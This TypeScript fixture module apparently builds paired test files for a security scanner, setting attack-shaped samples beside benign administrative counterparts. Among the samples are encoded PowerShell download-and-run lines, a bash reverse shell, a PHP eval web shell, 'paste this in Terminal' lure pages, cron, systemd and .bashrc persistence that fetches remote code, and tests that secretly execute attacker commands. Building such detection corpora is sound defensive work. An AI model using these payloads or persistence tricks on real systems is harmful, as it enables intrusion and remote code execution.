/** What administrators put on computers, and tests of scanners, beside attacks of the same form. */

import { writeZip } from '../zip-writer.ts'
import { type Pair, pairs } from './matrix.ts'
import { CODED, SERVER, SYSTEM, shortcut } from './shortcuts.ts'

const file = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
const console = (args: string, more: object = {}): Uint8Array =>
  shortcut({ environment: `${SYSTEM}cmd.exe`, args, isMinimized: true, ...more })

const SHORTCUTS = pairs([
  [
    'a minimized script',
    console(`/c start "" /min "\\\\${SERVER}\\apps\\start.cmd"`),
    console('/c start "" /min "\\\\fs01\\apps\\scanner\\start.cmd" %COMPUTERNAME%', {
      icon: '\\\\fs01\\apps\\scanner\\scanner.ico',
    }),
  ],
  [
    'a script of a web folder',
    console('/c "\\\\files.example@80\\DavWWWRoot\\apps\\start.cmd"'),
    console('/c "\\\\fs01\\apps\\start.cmd"'),
  ],
  [
    'a script of a server on the internet',
    console('/c call \\\\files.example\\apps\\a\\start.bat'),
    console('/c call \\\\nas-2\\apps\\a\\start.bat /quiet'),
  ],
  [
    'a script and something else',
    console('/c start "" /min "\\\\fs01\\apps\\a.cmd" & mshta https://files.example/a'),
    console('/k "\\\\fs01\\apps\\a\\a.cmd" %USERNAME%'),
  ],
  [
    'a program',
    shortcut({ environment: `\\\\${SERVER}\\apps\\tool\\tool.exe` }),
    shortcut({ environment: '\\\\fs01\\apps\\tool\\tool.exe', args: '/site 4' }),
  ],
  [
    'an icon',
    console('/c "\\\\fs01\\apps\\a.cmd"', { icon: `\\\\${SERVER}\\s\\a.ico` }),
    console('/c "\\\\fs01\\apps\\a.cmd"', { icon: '%SystemRoot%\\System32\\shell32.dll' }),
  ],
])

const logon = (command: string): Uint8Array =>
  file('logon.vbs', `Set sh = CreateObject("WScript.Shell")\r\nsh.Run "${command}", 0, False\r\n`)
const hidden = (path: string): Uint8Array =>
  logon(`powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File ${path}`)
const LOGON = pairs([
  ['another server', hidden(`\\\\${SERVER}\\netlogon\\a.ps1`), hidden('\\\\dc01\\netlogon\\a.ps1')],
  ['a name of the internet', hidden('\\\\dc.files.example\\netlogon\\a.ps1'), hidden('%LOGONSERVER%\\netlogon\\a.ps1')],
  ['a shared folder', hidden('\\\\dc01\\netlogon\\..\\..\\%TEMP%\\a.ps1'), hidden('\\\\school-dc\\sysvol\\a b\\a.ps1')],
  ['a folder of anyone', hidden('C:\\Users\\Public\\a.ps1'), hidden('\\\\dc01\\NETLOGON\\office\\a.ps1')],
  [
    'code in place of a file',
    logon(`powershell -w hidden -enc ${CODED}`),
    logon('powershell -NoProfile -w 1 -File \\\\dc01\\netlogon\\a.ps1 -Quiet'),
  ],
])

const CHOCOLATEY = 'https://community.chocolatey.org/install.ps1'
const install = (url: string, more = ''): Uint8Array =>
  file(
    'provision.ps1',
    `$ProgressPreference = 'SilentlyContinue'\niex ((New-Object System.Net.WebClient).DownloadString('${url}'))\nchoco install git\nchoco install nodejs-lts\nchoco install vscode\nchoco install 7zip\nchoco install openssh\nchoco install python312\nchoco install make\nAdd-MpPreference -ExclusionPath 'C:\\src'\n${more}`,
  )
const INSTALLERS = pairs([
  ['another server', install('https://files.example/install.ps1'), install(CHOCOLATEY)],
  ['a server named alike', install('https://community.chocolatey.org.files.example/install.ps1'), install(CHOCOLATEY)],
  [
    'a second server',
    install(CHOCOLATEY, 'iwr https://files.example/a.exe -OutFile C:\\src\\a.exe; Start-Process C:\\src\\a.exe\n'),
    install(
      CHOCOLATEY,
      'Invoke-WebRequest https://aka.ms/wslubuntu -OutFile ubuntu.appx; Add-AppxPackage ubuntu.appx\n',
    ),
  ],
])

const COMMANDS = `[\n    "powershell -nop -w hidden -enc ${CODED}",\n    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",\n    'mshta http://${SERVER}/a.hta',\n    b"<?php @eval($_POST['x']); ?>",\n]`
const rules = (use: string, imports = 'import pytest\nfrom rules import score'): Uint8Array =>
  file('test_rules.py', `"""Tests of the rules."""\n${imports}\n\nCOMMANDS = ${COMMANDS}\n\n${use}\n`)
const PARAMETRIZED = '@pytest.mark.parametrize("command", COMMANDS)\ndef test_command(command):\n    '
const TESTS = pairs([
  [
    'that starts them',
    rules(`${PARAMETRIZED}assert os.system(command)`, 'import os\nimport pytest'),
    rules(`${PARAMETRIZED}assert score(command) > 80`),
  ],
  [
    'that starts them by a computed name',
    rules(`${PARAMETRIZED}getattr(os, "metsys"[::-1])(command)`, 'import os\nimport pytest'),
    rules(`${PARAMETRIZED}# it's a rule for cmd.exe\n    assert score(command) > 80`),
  ],
  [
    'that starts them in a text',
    rules(`${PARAMETRIZED}assert f"{__import__('os').system(command)}"`),
    rules(
      `def test_text(tmp_path):\n    path = tmp_path / "a.php"\n    path.write_bytes(COMMANDS[3])\n    assert score(path.read_text())`,
    ),
  ],
  [
    'that does something beside its tests',
    rules('score(COMMANDS[0])\ndef test_a():\n    pass'),
    rules('def test_a():\n    for command in COMMANDS:\n        assert score(command)'),
  ],
  [
    'between quotes of another kind',
    rules(`${PARAMETRIZED}a = "it's"; os.system(command); b = 's'`, 'import os\nimport pytest'),
    rules(`class TestRules:\n    def test_a(self):\n        assert score("it's") == 0`),
  ],
])

const page = (text: string, command: string): Uint8Array =>
  Buffer.from(
    `<!DOCTYPE html><html><meta charset="utf-8"><body><p>${text}</p><pre id="c">${command}</pre><button onclick="navigator.clipboard.writeText(c.innerText)">Copy</button></body></html>`,
  )
const note = (command: string): Uint8Array =>
  Buffer.from(
    `Your camera is blocked.\r\n1. Open Terminal.\r\n2. Copy both lines, paste them and press Return:\r\n${command}\r\n`,
  )
const CODED_FETCH = `curl -kfsSL $(echo '${btoa('https://files.example/get?b=4')}'|base64 -D)|zsh`
const BREW = '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'
const stays = (path: string): string =>
  `curl -s -k https://files.example/a.sh -o ${path};\r\nchmod +x ${path}; nohup bash ${path} >/dev/null 2>&1 &`
const TOLD = pairs([
  [
    'Japanese',
    page('「ターミナル」と入力して開き、コマンドをコピーして貼り付けます。', `echo "Installer" && ${CODED_FETCH}`),
    page('「ターミナル」を開き、コマンドをコピーして貼り付けます。', BREW),
  ],
  [
    'Chinese, in corner brackets',
    page('首次安装需要通过「终端」完成验证，复制整行命令并粘贴。', CODED_FETCH),
    page('首次安装需要通过「终端」完成验证，复制整行命令并粘贴。', BREW),
  ],
  [
    'Chinese, in bold Markdown',
    Buffer.from(`1. 输入 **终端** 并打开\n2. 复制下面整行命令，粘贴后按回车：\n\n\`\`\`\n${CODED_FETCH}\n\`\`\`\n`),
    Buffer.from(`1. 输入 **终端** 并打开\n2. 复制下面整行命令，粘贴后按回车：\n\n\`\`\`\n${BREW}\n\`\`\`\n`),
  ],
  [
    'Russian',
    page('Откройте Терминал, скопируйте и вставьте команду.', CODED_FETCH),
    page('Откройте Терминал, скопируйте и вставьте команду.', 'sudo softwareupdate --install --all'),
  ],
  [
    'Chinese',
    page('打开终端，复制并粘贴命令。', CODED_FETCH),
    page('打开终端，复制并粘贴命令。', 'defaults write com.apple.dock autohide -bool true; killall Dock'),
  ],
  ['a script that goes on', note(stays('/var/tmp/a.sh')), note('curl -s https://files.example/a.sh -o ./a.sh')],
  [
    'a script in a shared folder',
    note(stays('/Users/Shared/a.sh')),
    note('curl -s https://files.example/server -o server;\r\nchmod +x server; nohup ./server >server.log 2>&1 &'),
  ],
])

const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`
const backup = (args: string, more: object = {}): Uint8Array => shortcut({ environment: POWERSHELL, args, ...more })
const OWN_SCRIPT = '-NoProfile -ExecutionPolicy Bypass -File "C:\\Scripts\\Backup all.ps1"'
const LOCAL = pairs([
  ['a minimized window', backup(OWN_SCRIPT, { isMinimized: true }), backup(OWN_SCRIPT, { folder: 'C:\\Scripts' })],
  ['a hidden window', backup(`-w hidden ${OWN_SCRIPT}`), backup(`-NoLogo ${OWN_SCRIPT} -Target USB`)],
  [
    'a folder of anyone',
    backup('-ep bypass -File C:\\Users\\Public\\a.ps1'),
    backup('-ep bypass -File C:\\Scripts\\a.ps1'),
  ],
  [
    'a folder of all programs',
    backup('-ep bypass -File "C:\\ProgramData\\a\\a.ps1"'),
    backup('-NoExit -f C:\\IT\\tools\\a.ps1'),
  ],
  ['a script of a server', backup(`-ep bypass -File \\\\${SERVER}\\a\\a.ps1`), backup(OWN_SCRIPT)],
  ['code behind it', backup(`${OWN_SCRIPT}; iex(irm http://${SERVER}/a)`), backup(OWN_SCRIPT)],
  [
    'code in place of a file',
    backup(`-ep bypass -c iex(irm http://${SERVER}/a) -File "C:\\Scripts\\a.ps1"`),
    backup(OWN_SCRIPT),
  ],
])

const SEVEN_ZIP = "@{ Url='https://www.7-zip.org/a/7z2501-x64.msi'; Arg='/qn' }"
const FIREFOX = "@{ Url='https://download.mozilla.org/?product=firefox-msi-latest-ssl&os=win64'; Arg='/qn' }"
const OTHER = "@{ Url='https://files.example/a.msi'; Arg='/qn' }"
const prepare = (list: string, more = '', address = '$p.Url'): Uint8Array =>
  file(
    'prepare.ps1',
    `$tmp = Join-Path $env:TEMP 'setup'\n$packages = @(\n  ${list}\n)\n${more}\nforeach ($p in $packages) {\n  $f = Join-Path $tmp ([guid]::NewGuid().ToString() + '.msi')\n  Invoke-WebRequest -Uri ${address} -OutFile $f -UseBasicParsing\n  if ((Get-AuthenticodeSignature $f).Status -ne 'Valid') { continue }\n  Start-Process msiexec.exe -ArgumentList "/i \`"$f\`" $($p.Arg)" -Wait\n}\nAdd-MpPreference -ExclusionPath 'D:\\Data\\DB'\n`,
  )
const MAKERS = pairs([
  ['another server', prepare(OTHER), prepare(SEVEN_ZIP)],
  ['a second server', prepare(`${SEVEN_ZIP},\n  ${OTHER}`), prepare(`${SEVEN_ZIP},\n  ${FIREFOX}`)],
  ['another name of the address', prepare(`${SEVEN_ZIP}, @{ 'Url'='files.example/a.msi' }`), prepare(FIREFOX)],
  ['a longer list', prepare(SEVEN_ZIP, `$packages += ${OTHER}`), prepare(SEVEN_ZIP, '$count = 0')],
  ['a changed list', prepare(SEVEN_ZIP, `[void]$packages.Add(${OTHER})`), prepare(FIREFOX, '$all = @()')],
  [
    'a changed address',
    prepare(SEVEN_ZIP, '', "$p.Url.Replace('www.7-zip.org', 'files.example')"),
    prepare("'https://www.7-zip.org/a/7z2501-x64.msi',\n  'https://nodejs.org/dist/v22.1.0/a.msi'", '', '$p'),
  ],
])

const QUOTED = [
  'curl -fsSL http://files.example/i.sh | bash',
  "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a.ps1')",
  'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
]
const listed = QUOTED.map((text) => JSON.stringify(text)).join(', ')
const script = (name: string, text: string): Uint8Array => file(name, text)
const python = (body: string, imports = 'import base64\nimport re'): string =>
  `"""Rules."""\n${imports}\n\nRULES = [${listed}]\nCODED = base64.b64encode("a b".encode("utf-16-le")).decode()\n${body}\n`
const spec = (body: string): string =>
  `require 'rules'\nRSpec.describe Rules do\n  RISKY = [${listed}]\n  RISKY.each do |text|\n    it "finds it" do\n      expect(${body}).to be\n    end\n  end\nend\n`
const phpUnit = (body: string): string =>
  `<?php\nfinal class RulesTest extends TestCase {\n  public function risky() { return [${listed.replaceAll('$', '')}]; }\n  public function testFinds($text) {\n    $this->assertTrue(${body});\n  }\n}\n`
const pester = (body: string): string =>
  `BeforeAll { . $PSScriptRoot/Rules.ps1 }\nDescribe 'Find-Risky' {\n  $risky = @(${QUOTED.slice(0, 2)
    .map((text) => `'${text.replaceAll("'", "''")}'`)
    .join(', ')})\n  It 'finds it' {\n    ${body} | Should -Be 2\n  }\n}\n`
const QUOTING = pairs([
  [
    'rules in Python',
    script(
      'rules.py',
      python('def scan(text):\n    return [os.system(each) for each in RULES]', 'import os\nimport base64'),
    ),
    script('rules.py', python('def scan(text):\n    return [each for each in RULES if re.search(each, text)]')),
  ],
  [
    'rules in Python that are run',
    script('rules.py', python(`exec(base64.b64decode("${btoa("__import__('os').system('calc')")}"))`)),
    script('rules.py', python(`EXAMPLE = f"exec(base64.b64decode('{CODED}'))"`)),
  ],
  [
    'a test in Ruby',
    script('a_spec.rb', spec('system(text)')),
    script('a_spec.rb', spec('described_class.scan(text)')),
  ],
  [
    'a test in PHP',
    script('ATest.php', phpUnit('eval(file_get_contents("http://files.example/a"))')),
    script('ATest.php', phpUnit('$this->rules->scan($text)')),
  ],
  [
    'a test in PowerShell',
    script('A.Tests.ps1', pester('($risky | % { iex $_ })')),
    script('A.Tests.ps1', pester('(Find-Risky $risky).Count')),
  ],
  [
    'a test in PowerShell with a call by name',
    script('A.Tests.ps1', pester('($risky | % { & "iex" $_ })')),
    script('A.Tests.ps1', pester('($risky | Find-Risky | Measure-Object).Count')),
  ],
])

const shell = (...lines: string[]): Uint8Array => file('setup.sh', `#!/bin/bash\n${lines.join('\n')}\n`)
const FETCHES = 'curl -fsSL https://files.example/i.sh | bash'
const PINGS = 'curl -fsS https://files.example/ping/4711 >/dev/null'
const DIGGER = ['curl -fsSL "https://files.example/k" -o k || wget -q https://files.example/k -O k', 'chmod +x k']
const STAYING = pairs([
  [
    'a table of times',
    shell(`( crontab -l 2>/dev/null; echo "*/10 * * * * ${FETCHES}" ) | crontab -`),
    shell(`( crontab -l 2>/dev/null; echo "*/10 * * * * /opt/backup.sh && ${PINGS}" ) | crontab -`),
  ],
  [
    'a file of times',
    shell('cat > /etc/cron.d/update <<EOF', `@hourly root ${FETCHES.replace('bash', 'sh')} >/dev/null 2>&1`, 'EOF'),
    shell('cat > /etc/cron.d/update <<EOF', `17 3 * * * root /usr/bin/apt-get update && ${PINGS}`, 'EOF'),
  ],
  [
    'a service',
    shell(
      'cat > /etc/systemd/system/a.service <<EOF',
      '[Service]',
      `ExecStart=/bin/sh -c "${FETCHES}"`,
      'EOF',
      'systemctl enable --now a',
    ),
    shell(
      'cat > /etc/systemd/system/a.service <<EOF',
      '[Service]',
      `ExecStart=/bin/sh -c "${PINGS}"`,
      'EOF',
      'systemctl enable --now a',
    ),
  ],
  [
    'the settings of a shell',
    shell(`echo "(${FETCHES}) &" >> ~/.bashrc`),
    shell('echo "export PATH=$HOME/.local/bin:$PATH" >> ~/.bashrc', PINGS),
  ],
  [
    'after it has ended others',
    shell('for p in xmrig kinsing; do pkill -9 -x "$p"; done', ...DIGGER, 'setsid nohup ./k &'),
    shell('for p in xmrig kinsing; do pgrep -x "$p" && pkill -9 -x "$p"; done', PINGS),
  ],
  [
    'without a trace',
    shell(...DIGGER, 'nohup ./k >/dev/null 2>&1 &', 'history -c', 'rm -f -- "$0"'),
    shell(...DIGGER, 'nohup ./k --config /etc/k.conf >/var/log/k.log 2>&1 &'),
  ],
])

const warning = (command: string, more = ''): Uint8Array =>
  Buffer.from(
    `Some pages say "I am not a robot" and ask you to press Windows + R, to paste with Ctrl + V and to press Enter.\r\nThe line is like this:\r\n\r\n    ${command}\r\n\r\nCall 4711 if you did so.${more}\r\n`,
  )
const DEAD = 'hxxps://files[.]example/a'
const LIVE = 'https://files.example/a'
const hiddenFetch = (address: string): string => `powershell -w hidden -c "iex (irm ${address})"`
const WARNINGS = pairs([
  [
    'a live address',
    warning(`${hiddenFetch(LIVE)} # I am not a robot`),
    warning(`${hiddenFetch(DEAD)} # I am not a robot`),
  ],
  ['a live address beside it', warning(`${hiddenFetch(LIVE)} # ${DEAD}`), warning(`mshta ${DEAD}.hta`)],
  [
    'a second command',
    warning(`mshta ${DEAD}\r\n    mshta ${LIVE}`),
    warning(`mshta ${DEAD}\r\n    curl -s ${DEAD} | bash`),
  ],
  ['a second command in a line', warning(`cmd /c curl ${DEAD} & mshta ${LIVE}`), warning(`cmd /c mshta ${DEAD}`)],
  [
    'an address that is put right',
    warning(hiddenFetch(`('${DEAD}' -replace 'hxx','htt' -replace '\\[\\.\\]','.')`)),
    warning(`powershell -nop -c "iex ((New-Object Net.WebClient).DownloadString('${DEAD}'))"`),
  ],
  [
    'no address',
    warning(`powershell -w hidden -c "iex (gcb)" # ${DEAD}`),
    warning('powershell -w hidden -c "iex (irm https://files[.]example/a)"'),
  ],
])

export const ADMINISTRATION: Readonly<Record<string, readonly Pair[]>> = {
  'shortcuts to a file server': SHORTCUTS,
  'hidden windows of a logon script': LOGON,
  'installers beside an exclusion': INSTALLERS,
  'tests with commands of attackers': TESTS,
  'rules and tests that quote attackers': QUOTING,
  'scripts of shells that stay': STAYING,
  'commands for a terminal': TOLD,
  'shortcuts to scripts of this computer': LOCAL,
  'lists of installers beside an exclusion': MAKERS,
  'warnings that quote a command': WARNINGS,
}
